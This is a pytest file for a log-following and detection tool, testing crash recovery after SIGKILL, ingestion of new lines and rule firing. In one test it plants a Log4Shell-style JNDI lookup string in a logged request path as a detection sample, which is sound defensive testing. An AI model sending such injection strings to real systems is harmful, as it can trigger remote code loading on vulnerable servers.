"""`lichen run --follow` killed with -9 at any moment: after the next start no event is lost and none is doubled."""

import os
import random
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from lichen.store.store import Store

LICHEN = Path(sys.executable).with_name("lichen")
REQUEST = '"GET /api/orders/{number} HTTP/1.1" 200 812 "-" "curl/8"'
LINE = "10.0.0.{host} - alice [24/Nov/2026:11:41:{second:02d} +0000] " + REQUEST + "\n"
QUIET = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}


def lines(start: int, count: int) -> str:
    return "".join(LINE.format(host=n % 9 + 1, second=n % 60, number=n) for n in range(start, start + count))


def event_ids(store: Path) -> list[str]:
    with Store(store) as opened:
        return [event_id for batch in opened.lake.batches() for event_id in batch.event_ids(range(len(batch)))]


@pytest.mark.parametrize("seed", [1, 2])
def test_killed_while_following_none_is_lost_and_none_doubled(seed: int, tmp_path: Path) -> None:
    moment = random.Random(seed)
    log, store, written = tmp_path / "access.log", tmp_path / "store", 400
    log.write_text(lines(0, written), encoding="utf-8")
    command = [LICHEN, "run", "--store", store, "--follow", log, "--port", "0"]
    for start in range(3):
        running = subprocess.Popen(command, start_new_session=True, **QUIET)
        time.sleep(1.5 + 2.5 * moment.random())
        with log.open("a", encoding="utf-8") as out:
            out.write(lines(written, 300))
        written += 300
        time.sleep(moment.random())
        deadline = time.monotonic() + 60
        while start == 2 and time.monotonic() < deadline and not event_ids(store):
            time.sleep(0.2)  # however slow the machine: something was read before the last kill
        os.kill(running.pid, signal.SIGKILL)
        running.wait()
    assert event_ids(store)
    ended = subprocess.run([*command[:-2], "--once"], capture_output=True, text=True, timeout=120)
    assert ended.returncode == 0, ended.stderr
    ids = event_ids(store)
    assert len(ids) == written
    assert len(set(ids)) == written


def test_new_lines_reach_the_store_while_following(tmp_path: Path) -> None:
    log, store = tmp_path / "access.log", tmp_path / "store"
    log.write_text(lines(0, 10), encoding="utf-8")
    command = [LICHEN, "run", "--store", store, "--follow", log, "--port", "0"]
    running = subprocess.Popen(command, start_new_session=True, **QUIET)
    try:
        time.sleep(4)
        with log.open("a", encoding="utf-8") as out:
            out.write(lines(10, 5))
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            if (store / "records.sqlite").exists() and len(event_ids(store)) == 15:
                return
            time.sleep(1)
        pytest.fail("the new lines did not come in")
    finally:
        running.kill()
        running.wait()


def test_without_a_baseline_rules_reach_the_queue_while_following(tmp_path: Path) -> None:
    log, store = tmp_path / "access.log", tmp_path / "store"
    log.write_text(lines(0, 40), encoding="utf-8")
    command = [LICHEN, "run", "--store", store, "--follow", log, "--port", "0"]
    running = subprocess.Popen(command, start_new_session=True, **QUIET)
    try:
        time.sleep(4)
        with log.open("a", encoding="utf-8") as out:
            out.write(LINE.format(host=3, second=59, number=1).replace("/api/orders/1", "/?q=${jndi:ldap://x/a}"))
        deadline = time.monotonic() + 100
        while time.monotonic() < deadline:
            if (store / "records.sqlite").exists():
                with Store(store) as opened:
                    if any(line.detector.startswith("rule:") for b in opened.records.beliefs() for line in b.ledger):
                        return
            time.sleep(1)
        pytest.fail("the rule's hit was never believed")
    finally:
        running.kill()
        running.wait()
